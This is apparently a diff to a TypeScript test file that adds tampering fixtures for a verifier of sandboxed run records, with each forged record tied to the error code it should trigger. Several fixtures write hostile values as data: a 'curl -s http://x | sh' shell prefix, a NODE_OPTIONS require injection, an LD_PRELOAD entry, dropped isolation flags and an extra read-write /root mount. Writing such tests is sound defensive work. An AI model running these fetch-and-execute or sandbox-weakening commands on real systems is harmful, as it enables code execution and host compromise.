@@ -29,6 +29,9 @@ import {
 
 type Sources = Record<SourceName, Source>
 
+/** The parts of a sandbox run record the A4 fixtures change. */
+interface SandboxRecord { argv: string[], namespaces: Array<{ host: string, sandbox: string }>, mounts: Array<{ source: string, dest: string, mode: string }>, limits: Array<{ name: string, want: string, got: string }>, samples: Array<{ mem_available_bytes: number }> }
+
 interface CorpusFixture {
   /** `<what>_pass` or `<what>_fail`. */
   name: string
@@ -297,6 +300,9 @@ const FIXTURES: CorpusFixture[] = [
     threat: 'V7: another attempt\'s receipt copied in and every file entry resealed for this directory',
     mutate: (d, s) => {
       cpSync(join(s.rejected.dir, 'receipt.json'), join(d, 'receipt.json'))
+      // Sealed when this attempt was: the binding is under test, not the order in time.
+      const sealedAt = readJson<{ sealed_at: string }>(s.go_verified.dir, 'receipt.json').sealed_at
+      editReceipt(d, r => { r.sealed_at = sealedAt })
       const theirs = readJson<{ files: Array<{ path: string }> }>(d, 'receipt.json').files.map(x => x.path)
       const ours = readJson<{ files: Array<{ path: string }> }>(s.go_verified.dir, 'receipt.json').files.map(x => x.path)
       reseal(d, ...new Set([...theirs, ...ours]))
@@ -311,7 +317,20 @@ const FIXTURES: CorpusFixture[] = [
   { name: 'response_other_attempt_fail', from: 'go_verified', threat: 'V7: response.json and usage.json of another attempt copied in and resealed', mutate: (d, s) => { for (const f of ['response.json', 'usage.json']) cpSync(join(s.rejected.dir, f), join(d, f)); reseal(d, 'response.json', 'usage.json') }, expect: 'ATTEMPT_BINDING_MISMATCH', alsoFires: [PA] },
   { name: 'outcome_other_key_fail', from: 'go_verified', threat: 'V7: outcome.json names another attempt key, resealed', mutate: (d, s) => { editJson(d, 'outcome.json', o => { o.attempt_key = readJson<{ attempt_key: string }>(s.rejected.dir, 'admission.json').attempt_key }); reseal(d, 'outcome.json') }, expect: 'ATTEMPT_BINDING_MISMATCH', exclusive: false },
   { name: 'dispatch_other_url_fail', from: 'go_verified', threat: 'V7: dispatch.json names another endpoint (and key helper), resealed', mutate: d => { editJson(d, 'dispatch.json', x => { x.url = 'https://provider.example/v1/responses'; x.token_command_sha256 = 'f'.repeat(64) }); reseal(d, 'dispatch.json') }, expect: 'ATTEMPT_BINDING_MISMATCH' },
-  { name: 'baseline_other_attempt_fail', from: 'go_verified', threat: 'V7: baseline.json and its events from another attempt, resealed', mutate: (d, s) => { for (const f of ['baseline.json', 'baseline.events.ndjson']) cpSync(join(s.rejected.dir, f), join(d, f)); reseal(d, 'baseline.json', 'baseline.events.ndjson') }, expect: 'ATTEMPT_BINDING_MISMATCH', alsoFires: [TV, 'STAGE_ORDER'] },
+  {
+    name: 'baseline_other_attempt_fail',
+    from: 'go_verified',
+    threat: 'V7: baseline.json and its events from another attempt, resealed',
+    mutate: (d, s) => {
+      const timing = readJson<{ run: { timing: unknown } }>(d, 'baseline.json').run.timing
+      for (const f of ['baseline.json', 'baseline.events.ndjson']) cpSync(join(s.rejected.dir, f), join(d, f))
+      // Timed as this attempt's own run was: the binding is under test, not the order in time.
+      editJson(d, 'baseline.json', b => { b.run.timing = timing })
+      reseal(d, 'baseline.json', 'baseline.events.ndjson')
+    },
+    expect: 'ATTEMPT_BINDING_MISMATCH',
+    alsoFires: [TV, 'SANDBOX_RECORD_MISMATCH'],
+  },
 
   // V11: register tuples that disagree with the manifest blob.
   {
@@ -346,9 +365,9 @@ const FIXTURES: CorpusFixture[] = [
     alsoFires: [TV],
   },
   { name: 'argv_summary_command_fail', from: 'go_verified', threat: 'V9: only verify.json\'s top-level command rewritten (./... instead of .), resealed', mutate: d => { editJson(d, 'verify.json', v => { v.command[v.command.length - 1] = './...' }); reseal(d, 'verify.json') }, expect: 'COMMAND_MISALIGNED', alsoFires: [TV] },
-  { name: 'argv_sandbox_argv_fail', from: 'node_verified', threat: 'V9: the argv bwrap actually ran ends in another command than the recorded one', mutate: d => { editJson(d, 'baseline.json', b => { b.run.argv.push('test/extra.test.js') }); reseal(d, 'baseline.json') }, expect: 'COMMAND_MISALIGNED' },
+  { name: 'argv_sandbox_argv_fail', from: 'node_verified', threat: 'V9: the argv bwrap actually ran ends in another command than the recorded one', mutate: d => { editJson(d, 'baseline.json', b => { b.run.argv.push('test/extra.test.js') }); reseal(d, 'baseline.json') }, expect: 'COMMAND_MISALIGNED', alsoFires: ['SANDBOX_RECORD_MISMATCH'] },
   { name: 'argv_receipt_fail', from: 'go_verified', threat: 'V9: receipt.json\'s verify command rewritten', mutate: d => editReceipt(d, r => { const c = r.commands[1]; if (c !== undefined) c.argv = ['/bin/true'] }), expect: 'COMMAND_MISALIGNED' },
-  { name: 'env_names_fail', from: 'go_verified', threat: 'V9: verify ran with an environment variable outside the runner\'s set', mutate: d => { editJson(d, 'verify.json', v => { v.run.env_names.push('LD_PRELOAD') }); reseal(d, 'verify.json') }, expect: 'COMMAND_MISALIGNED', alsoFires: [TV] },
+  { name: 'env_names_fail', from: 'go_verified', threat: 'V9: verify ran with an environment variable outside the runner\'s set', mutate: d => { editJson(d, 'verify.json', v => { v.run.env_names.push('LD_PRELOAD') }); reseal(d, 'verify.json') }, expect: 'COMMAND_MISALIGNED', alsoFires: [TV, 'SANDBOX_RECORD_MISMATCH'] },
   { name: 'node_reporter_fail', from: 'node_verified', threat: 'V9: the node command names another test reporter', mutate: d => { editJson(d, 'baseline.json', b => { for (const argv of [b.command, b.run.command, b.run.argv] as string[][]) { const i = argv.findIndex(a => a.startsWith('--test-reporter=')); argv[i] = '--test-reporter=spec' } }); reseal(d, 'baseline.json') }, expect: 'COMMAND_MISALIGNED', alsoFires: [TV] },
   { name: 'receipt_command_exit_fail', from: 'go_verified', threat: 'V9: receipt.json\'s baseline command claims it passed (exit 0)', mutate: d => editReceipt(d, r => { const c = r.commands[0]; if (c !== undefined) c.exit_code = 0 }), expect: 'COMMAND_MISALIGNED' },
 
@@ -440,6 +459,7 @@ const FIXTURES: CorpusFixture[] = [
     threat: 'V2: the candidate ran under another tasks limit than the baseline (RUN_NOT_COMPARABLE), recorded as identical with no fault (resealed)',
     mutate: d => { editJson(d, 'verify.json', v => { for (const l of v.run.limits) if (l.name === 'tasks') { l.want = '4096'; l.got = '4096' } }); reseal(d, 'verify.json') },
     expect: TV,
+    alsoFires: ['SANDBOX_RECORD_MISMATCH'],
   },
   {
     name: 'events_output_rewritten_pass',
@@ -577,6 +597,40 @@ const FIXTURES: CorpusFixture[] = [
     alsoFires: ['MISSING_STAGE_RECORD'],
   },
   { name: 'verify_events_count_fail', from: 'node_verified', threat: 'A4: verify.json states one event more than its events file holds', mutate: d => { editJson(d, 'verify.json', v => { v.events.count += 1 }); reseal(d, 'verify.json') }, expect: TV },
+  // A sandbox run record held to what the CLI runs, each forged in both runs alike so that
+  // comparing the two finds nothing (the audit's A4).
+  ...([
+    ['sandbox_argv_shell_prefix_fail', 'a shell that fetches and runs a script before the launch chain', (r: SandboxRecord) => { r.argv.unshift('/bin/sh', '-c', 'curl -s http://x | sh; exec "$0" "$@"') }],
+    ['sandbox_argv_setenv_fail', 'NODE_OPTIONS set by the argv while env_names lists only the runner\'s', (r: SandboxRecord) => { const i = r.argv.indexOf('--json-status-fd'); r.argv.splice(i, 0, '--setenv', 'NODE_OPTIONS', '--require=/tmp/x.js') }],
+    ['sandbox_argv_no_isolation_fail', '--unshare-all, --clearenv and --disable-userns dropped', (r: SandboxRecord) => { r.argv = r.argv.filter(a => !['--unshare-all', '--clearenv', '--disable-userns'].includes(a)) }],
+    ['sandbox_namespaces_host_fail', 'every namespace the host\'s own', (r: SandboxRecord) => { for (const n of r.namespaces) n.sandbox = n.host }],
+    ['sandbox_mount_extra_fail', 'an extra read-write mount of /root, in the argv and the mounts alike', (r: SandboxRecord) => { r.mounts.push({ source: '/root', dest: '/root', mode: 'rw' }); const i = r.argv.indexOf('--remount-ro'); r.argv.splice(i, 0, '--bind', '/root', '/root') }],
+    ['sandbox_limits_dropped_fail', 'no limit recorded as read back', (r: SandboxRecord) => { r.limits = [] }],
+    ['sandbox_limit_want_fail', 'the memory limit recorded as asked and got at 999999999999999', (r: SandboxRecord) => { const l = r.limits.find(x => x.name === 'memory'); if (l !== undefined) { l.want = '999999999999999'; l.got = '999999999999999' } }],
+    ['sandbox_sample_low_fail', 'a memory sample of 1000 bytes, and the run not stopped for it', (r: SandboxRecord) => { const x = r.samples[0]; if (x !== undefined) x.mem_available_bytes = 1000 }],
+  ] as const).map(([name, threat, change]): CorpusFixture => ({
+    name,
+    from: 'node_verified',
+    threat: `A4: ${threat}`,
+    mutate: d => {
+      for (const f of ['baseline.json', 'verify.json']) editJson(d, f, x => { change(x.run as SandboxRecord) })
+      reseal(d, 'baseline.json', 'verify.json')
+    },
+    expect: 'SANDBOX_RECORD_MISMATCH',
+    // The argv's command (after its last `--`) is still the fixed one, so only the shell's
+    // arguments change what COMMAND_MISALIGNED reads: none of these reach it.
+  })),
+  { name: 'sandbox_reporter_digest_fail', from: 'node_verified', threat: 'A4: reporter_sha256 all zeros in both runs', mutate: d => { for (const f of ['baseline.json', 'verify.json']) editJson(d, f, x => { x.reporter_sha256 = '0'.repeat(64) }); reseal(d, 'baseline.json', 'verify.json') }, expect: 'SANDBOX_RECORD_MISMATCH' },
+  {
+    name: 'sandbox_run_after_deadline_fail',
+    from: 'go_verified',
+    threat: 'A4: both runs timed in 2099, long after the deadline, with no deadline stop',
+    mutate: d => {
+      for (const f of ['baseline.json', 'verify.json']) editJson(d, f, x => { x.run.timing.started_at = '2099-01-01T00:00:00.000Z'; x.run.timing.ended_at = '2099-01-01T00:00:01.000Z' })
+      reseal(d, 'baseline.json', 'verify.json')
+    },
+    expect: 'STAGE_ORDER',
+  },
   {
     name: 'events_duplicate_key_fail',
     from: 'go_verified',
